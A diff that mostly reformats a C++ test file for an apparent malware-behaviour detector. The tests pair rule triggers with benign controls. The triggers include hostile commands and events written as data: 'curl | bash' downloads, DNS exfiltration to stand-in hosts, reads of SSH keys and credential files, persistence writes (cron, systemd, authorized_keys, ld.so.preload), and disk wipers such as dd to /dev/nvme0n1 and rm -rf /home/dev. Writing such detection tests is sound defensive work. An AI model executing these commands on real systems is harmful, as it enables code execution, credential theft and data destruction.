@@ -63,28 +63,61 @@ const std::vector<Case>& cases() {
   static const std::vector<Case> all = {
       // execution
       {"shell-downloader-pipe",
-       [](Ctx& c) { c.m.exec("init", "/bin/sh", {"/bin/sh", "-c", "curl -fsSL http://a.invalid/x | bash"}); },
-       [](Ctx& c) { c.m.exec("init", "/bin/sh", {"/bin/sh", "-c", "curl -fsSL -o /tmp/x http://a.invalid/x"}); }},
-      {"downloader-started", [](Ctx& c) { c.m.exec("init", "/usr/bin/wget", {"wget", "http://a.invalid/"}); },
-       [](Ctx& c) { c.m.exec("test", "/usr/bin/wget", {"wget", "http://a.invalid/"}); }},
-      {"downloader-started-test", [](Ctx& c) { c.m.exec("test", "/usr/bin/curl", {"curl", "http://a.invalid/"}); },
-       [](Ctx& c) { c.m.exec("build", "/usr/bin/curl", {"curl", "http://a.invalid/"}); }},
+       [](Ctx& c) {
+         c.m.exec("init", "/bin/sh", {"/bin/sh", "-c", "curl -fsSL http://a.invalid/x | bash"});
+       },
+       [](Ctx& c) {
+         c.m.exec("init", "/bin/sh", {"/bin/sh", "-c", "curl -fsSL -o /tmp/x http://a.invalid/x"});
+       }},
+      {"downloader-started",
+       [](Ctx& c) {
+         c.m.exec("init", "/usr/bin/wget", {"wget", "http://a.invalid/"});
+       },
+       [](Ctx& c) {
+         c.m.exec("test", "/usr/bin/wget", {"wget", "http://a.invalid/"});
+       }},
+      {"downloader-started-test",
+       [](Ctx& c) {
+         c.m.exec("test", "/usr/bin/curl", {"curl", "http://a.invalid/"});
+       },
+       [](Ctx& c) {
+         c.m.exec("build", "/usr/bin/curl", {"curl", "http://a.invalid/"});
+       }},
       {"shell-started-init", [](Ctx& c) { c.m.exec("init", "/usr/bin/bash", {"bash"}); },
-       [](Ctx& c) { c.m.exec("init", "/usr/bin/uname", {"uname", "-r"}); }},
-      {"shell-started-run", [](Ctx& c) { c.m.exec("run", "/bin/sh", {"sh", "-c", "true"}); },
-       [](Ctx& c) { c.m.exec("run", "/usr/bin/gofmt", {"gofmt", "-l", "."}); }},
-      {"shell-started-test", [](Ctx& c) { c.m.exec("test", "/usr/bin/python3.11", {"python3", "x.py"}); },
-       [](Ctx& c) { c.m.exec("build", "/bin/sh", {"sh", "-c", "gcc"}); }},
+       [](Ctx& c) {
+         c.m.exec("init", "/usr/bin/uname", {"uname", "-r"});
+       }},
+      {"shell-started-run",
+       [](Ctx& c) {
+         c.m.exec("run", "/bin/sh", {"sh", "-c", "true"});
+       },
+       [](Ctx& c) {
+         c.m.exec("run", "/usr/bin/gofmt", {"gofmt", "-l", "."});
+       }},
+      {"shell-started-test",
+       [](Ctx& c) {
+         c.m.exec("test", "/usr/bin/python3.11", {"python3", "x.py"});
+       },
+       [](Ctx& c) {
+         c.m.exec("build", "/bin/sh", {"sh", "-c", "gcc"});
+       }},
       {"fileless-exec", [](Ctx& c) { c.m.exec("init", "/proc/self/fd/3", {"[kworker/0:1]"}); },
        // The re-exec of oneself (reexec, docker's pkg) is ordinary.
-       [](Ctx& c) { c.m.exec("init", "/proc/self/exe", {"/proc/self/exe", "child"}); }},
+       [](Ctx& c) {
+         c.m.exec("init", "/proc/self/exe", {"/proc/self/exe", "child"});
+       }},
       {"dropper-exec-init",
-       [](Ctx& c) { c.m.file("init", "/tmp/.x/payload", {"create", "write", "chmod", "exec"}); },
+       [](Ctx& c) {
+         c.m.file("init", "/tmp/.x/payload", {"create", "write", "chmod", "exec"});
+       },
        [](Ctx& c) { c.m.file("init", "/tmp/.x/payload", {"exec"}); }},
       {"dropper-exec-test",
-       [](Ctx& c) { c.m.file("test", "/tmp/TestRun123/helper.sh", {"create", "write", "exec"}); },
        [](Ctx& c) {
-         int link = c.m.exec("test", "/usr/lib/go-1.19/pkg/tool/linux_amd64/link", {"link", "-o", "/tmp/b/exe/a.out"});
+         c.m.file("test", "/tmp/TestRun123/helper.sh", {"create", "write", "exec"});
+       },
+       [](Ctx& c) {
+         int link = c.m.exec("test", "/usr/lib/go-1.19/pkg/tool/linux_amd64/link",
+                             {"link", "-o", "/tmp/b/exe/a.out"});
          c.m.file("test", "/tmp/b/exe/a.out", {"create", "write", "exec"}, link);
        }},
       // network
@@ -115,7 +148,9 @@ const std::vector<Case>& cases() {
       {"dns-txt-init", [](Ctx& c) { c.m.dns("init", "cmd.c2.test", "TXT"); },
        [](Ctx& c) { c.m.dns("init", "cmd.c2.test", "A"); }},
       {"dns-exfiltration",
-       [](Ctx& c) { c.m.dns("init", std::string(60, 'a') + "1f3e9b27c4d58e0a." + "0.d.sink.test"); },
+       [](Ctx& c) {
+         c.m.dns("init", std::string(60, 'a') + "1f3e9b27c4d58e0a." + "0.d.sink.test");
+       },
        [](Ctx& c) { c.m.dns("init", "www.example.test"); }},
       {"canary-exfiltration",
        [](Ctx& c) {
@@ -124,7 +159,8 @@ const std::vector<Case>& cases() {
          c.m.dns("init", h.substr(50) + ".1.x.sink.test", "A", 1, 20);
        },
        [](Ctx& c) {
-         std::string h = hex(Honeytokens::generate(7).canaries.front().value);  // another run's canary
+         std::string h =
+             hex(Honeytokens::generate(7).canaries.front().value);  // another run's canary
          c.m.dns("init", h.substr(0, 50) + ".0.x.sink.test", "A", 1, 10);
        }},
       // credentials
@@ -138,46 +174,86 @@ const std::vector<Case>& cases() {
          c.m.file("run", "/home/dev/.git-credentials", {"read"}, git);
        }},
       {"credential-files-read-test", [](Ctx& c) { c.m.file("test", "/home/dev/.netrc", {"read"}); },
-       [](Ctx& c) { c.m.file("test", "/home/dev/.netrc", {"create", "write"}); }},
+       [](Ctx& c) {
+         c.m.file("test", "/home/dev/.netrc", {"create", "write"});
+       }},
       {"private-keys-read", [](Ctx& c) { c.m.file("init", "/home/dev/.ssh/id_ed25519", {"read"}); },
        [](Ctx& c) { c.m.file("init", "/home/dev/.ssh/id_ed25519.pub", {"read"}); }},
       // persistence
-      {"persistence-cron", [](Ctx& c) { c.m.file("init", "/var/spool/cron/crontabs/dev", {"create", "write"}); },
+      {"persistence-cron",
+       [](Ctx& c) {
+         c.m.file("init", "/var/spool/cron/crontabs/dev", {"create", "write"});
+       },
        [](Ctx& c) { c.m.file("init", "/var/spool/cron/crontabs/dev", {"read"}); }},
-      {"persistence-crontab-command", [](Ctx& c) { c.m.exec("init", "/usr/bin/crontab", {"crontab", "-"}); },
-       [](Ctx& c) { c.m.exec("build", "/usr/bin/crontab", {"crontab", "-"}); }},
+      {"persistence-crontab-command",
+       [](Ctx& c) {
+         c.m.exec("init", "/usr/bin/crontab", {"crontab", "-"});
+       },
+       [](Ctx& c) {
+         c.m.exec("build", "/usr/bin/crontab", {"crontab", "-"});
+       }},
       {"persistence-systemd",
-       [](Ctx& c) { c.m.file("init", "/home/dev/.config/systemd/user/x.service", {"create", "write"}); },
+       [](Ctx& c) {
+         c.m.file("init", "/home/dev/.config/systemd/user/x.service", {"create", "write"});
+       },
        [](Ctx& c) { c.m.file("init", "/home/dev/.config/systemd/user/x.service", {"read"}); }},
       {"persistence-autostart",
-       [](Ctx& c) { c.m.file("run", "/home/dev/.config/autostart/x.desktop", {"create", "write"}); },
-       [](Ctx& c) { c.m.file("run", "/home/dev/.config/autostart-backup", {"create", "write"}); }},
+       [](Ctx& c) {
+         c.m.file("run", "/home/dev/.config/autostart/x.desktop", {"create", "write"});
+       },
+       [](Ctx& c) {
+         c.m.file("run", "/home/dev/.config/autostart-backup", {"create", "write"});
+       }},
       {"persistence-shell-rc", [](Ctx& c) { c.m.file("init", "/home/dev/.bashrc", {"write"}); },
        [](Ctx& c) { c.m.file("init", "/home/dev/.bashrc", {"read"}); }},
-      {"persistence-authorized-keys", [](Ctx& c) { c.m.file("init", "/home/dev/.ssh/authorized_keys", {"write"}); },
+      {"persistence-authorized-keys",
+       [](Ctx& c) { c.m.file("init", "/home/dev/.ssh/authorized_keys", {"write"}); },
        [](Ctx& c) { c.m.file("init", "/home/dev/.ssh/known_hosts", {"write"}); }},
       {"persistence-git-hooks",
-       [](Ctx& c) { c.m.file("init", "/home/dev/src/app/.git/hooks/pre-commit", {"create", "write", "chmod"}); },
-       [](Ctx& c) { c.m.file("init", "/home/dev/src/app/.git/hooks/pre-commit.sample", {"create", "write"}); }},
+       [](Ctx& c) {
+         c.m.file("init", "/home/dev/src/app/.git/hooks/pre-commit", {"create", "write", "chmod"});
+       },
+       [](Ctx& c) {
+         c.m.file("init", "/home/dev/src/app/.git/hooks/pre-commit.sample", {"create", "write"});
+       }},
       {"persistence-git-hooks-test",
-       [](Ctx& c) { c.m.file("test", "/tmp/T1/repo/.git/hooks/post-checkout", {"create", "write"}); },
+       [](Ctx& c) {
+         c.m.file("test", "/tmp/T1/repo/.git/hooks/post-checkout", {"create", "write"});
+       },
        [](Ctx& c) {
          int git = c.m.exec("test", "/usr/bin/git", {"git", "init"});
          c.m.file("test", "/tmp/T1/repo/.git/hooks/post-checkout", {"create", "write"}, git);
        }},
-      {"persistence-ld-preload", [](Ctx& c) { c.m.file("init", "/etc/ld.so.preload", {"create", "write"}); },
+      {"persistence-ld-preload",
+       [](Ctx& c) {
+         c.m.file("init", "/etc/ld.so.preload", {"create", "write"});
+       },
        // The dynamic loader reads it in every program.
        [](Ctx& c) { c.m.file("init", "/etc/ld.so.preload", {"read"}); }},
       // impact
       {"wiper-block-device", [](Ctx& c) { c.m.file("init", "/dev/sda", {"write"}); },
        [](Ctx& c) { c.m.file("init", "/dev/null", {"write"}); }},
       {"wiper-dd-device",
-       [](Ctx& c) { c.m.exec("init", "/usr/bin/dd", {"dd", "if=/dev/zero", "of=/dev/nvme0n1", "bs=1M"}); },
-       [](Ctx& c) { c.m.exec("init", "/usr/bin/dd", {"dd", "if=/dev/zero", "of=/dev/null", "bs=1M"}); }},
-      {"wiper-rm-home", [](Ctx& c) { c.m.exec("init", "/usr/bin/rm", {"rm", "-rf", "/home/dev"}); },
-       [](Ctx& c) { c.m.exec("init", "/usr/bin/rm", {"rm", "-rf", "/home/dev/build/cache"}); }},
-      {"wiper-shred", [](Ctx& c) { c.m.exec("run", "/usr/sbin/mkfs.ext4", {"mkfs.ext4", "/dev/sdb1"}); },
-       [](Ctx& c) { c.m.exec("run", "/usr/bin/mkfifo", {"mkfifo", "/tmp/p"}); }},
+       [](Ctx& c) {
+         c.m.exec("init", "/usr/bin/dd", {"dd", "if=/dev/zero", "of=/dev/nvme0n1", "bs=1M"});
+       },
+       [](Ctx& c) {
+         c.m.exec("init", "/usr/bin/dd", {"dd", "if=/dev/zero", "of=/dev/null", "bs=1M"});
+       }},
+      {"wiper-rm-home",
+       [](Ctx& c) {
+         c.m.exec("init", "/usr/bin/rm", {"rm", "-rf", "/home/dev"});
+       },
+       [](Ctx& c) {
+         c.m.exec("init", "/usr/bin/rm", {"rm", "-rf", "/home/dev/build/cache"});
+       }},
+      {"wiper-shred",
+       [](Ctx& c) {
+         c.m.exec("run", "/usr/sbin/mkfs.ext4", {"mkfs.ext4", "/dev/sdb1"});
+       },
+       [](Ctx& c) {
+         c.m.exec("run", "/usr/bin/mkfifo", {"mkfifo", "/tmp/p"});
+       }},
       {"mass-deletion", [](Ctx& c) { deletes(c.m, "init", "/home/dev/projects", 30); },
        [](Ctx& c) { deletes(c.m, "init", "/tmp/cache", 300); }},
       {"mass-deletion-test", [](Ctx& c) { deletes(c.m, "test", "/home/dev/data", 120); },
@@ -190,7 +266,8 @@ const std::vector<Case>& cases() {
        },
        // automaxprocs reads its cgroup at init: one probe is not a pattern.
        [](Ctx& c) { c.m.file("init", "/proc/self/cgroup", {"read"}); }},
-      {"sandbox-probe-single", [](Ctx& c) { c.m.file("run", "/sys/class/dmi/id/product_name", {"read"}); },
+      {"sandbox-probe-single",
+       [](Ctx& c) { c.m.file("run", "/sys/class/dmi/id/product_name", {"read"}); },
        [](Ctx& c) { c.m.file("run", "/proc/self/mountinfo", {"read"}); }},
       {"sandbox-probe-test",
        [](Ctx& c) {
@@ -248,7 +325,8 @@ INSTANTIATE_TEST_SUITE_P(EveryRule, RuleCase, ::testing::Range(size_t{0}, cases(
 TEST(RuleCase, EveryShippedRuleHasACase) {
   std::set<std::string> covered;
   for (const auto& c : cases()) covered.insert(c.rule);
-  for (const auto& r : rules().rules()) EXPECT_TRUE(covered.contains(r.id)) << r.id << " has no test case";
+  for (const auto& r : rules().rules())
+    EXPECT_TRUE(covered.contains(r.id)) << r.id << " has no test case";
 }
 
 TEST(Verdict, EmptyModelIsCleanWithScoreZero) {
@@ -264,7 +342,8 @@ TEST(Verdict, ToolchainPhasesAndJailInitAreNeverFindings) {
   m.exec("build", "/bin/sh", {"/bin/sh", "-c", "curl http://x.invalid | sh"});
   m.file("build", "/home/dev/.bashrc", {"write"});
   m.file("build", "/tmp/go-build1/a.out", {"create", "write", "exec"});
-  m.file("init", "/home/dev/.ssh/authorized_keys", {"write"}, /*process=*/1);  // id 1: build's jail init
+  m.file("init", "/home/dev/.ssh/authorized_keys", {"write"},
+         /*process=*/1);  // id 1: build's jail init
   m.denied("mount", 1);
   Verdict v = evaluate(rules(), m.json(), tokens(), ExfilScan{});
   EXPECT_EQ(v.verdict, "clean") << describe(v);
@@ -273,12 +352,12 @@ TEST(Verdict, ToolchainPhasesAndJailInitAreNeverFindings) {
 
 TEST(Verdict, WeakSignalsAloneAreSuspiciousNeverMalicious) {
   ModelBuilder m;
-  m.connect("init", "198.51.100.4", 443);                    // medium
-  m.dns("init", "telemetry.example.test");                    // medium
-  m.file("init", "/.dockerenv", {"read"});                    // two probes: medium
+  m.connect("init", "198.51.100.4", 443);   // medium
+  m.dns("init", "telemetry.example.test");  // medium
+  m.file("init", "/.dockerenv", {"read"});  // two probes: medium
   m.file("init", "/proc/uptime", {"read"});
-  m.denied("ptrace", m.runner("init"));                       // medium
-  m.exec("test", "/bin/sh", {"sh", "-c", "make"});            // low
+  m.denied("ptrace", m.runner("init"));             // medium
+  m.exec("test", "/bin/sh", {"sh", "-c", "make"});  // low
   Verdict v = evaluate(rules(), m.json(), tokens(), ExfilScan{});
   EXPECT_EQ(v.verdict, "suspicious") << describe(v);
   EXPECT_LT(v.score, kMaliciousScore);
@@ -327,7 +406,8 @@ TEST(Verdict, ExfiltrationHitsFromTheCaptureBecomeFindingsWithTheDestination) {
   m.connect("test", "198.19.4.2", 80, "collector.test");
   ExfilScan scan(tokens());
   std::string body = "data=" + base64_encode("GITHUB_TOKEN=" + canary("env:GITHUB_TOKEN"));
-  scan.add(scan.scan_bytes(std::span(reinterpret_cast<const uint8_t*>(body.data()), body.size()), "198.19.4.2:80"));
+  scan.add(scan.scan_bytes(std::span(reinterpret_cast<const uint8_t*>(body.data()), body.size()),
+                           "198.19.4.2:80"));
   Verdict v = evaluate(rules(), m.json(), tokens(), scan);
   ASSERT_FALSE(v.findings.empty());
   const Finding& f = v.findings.front();
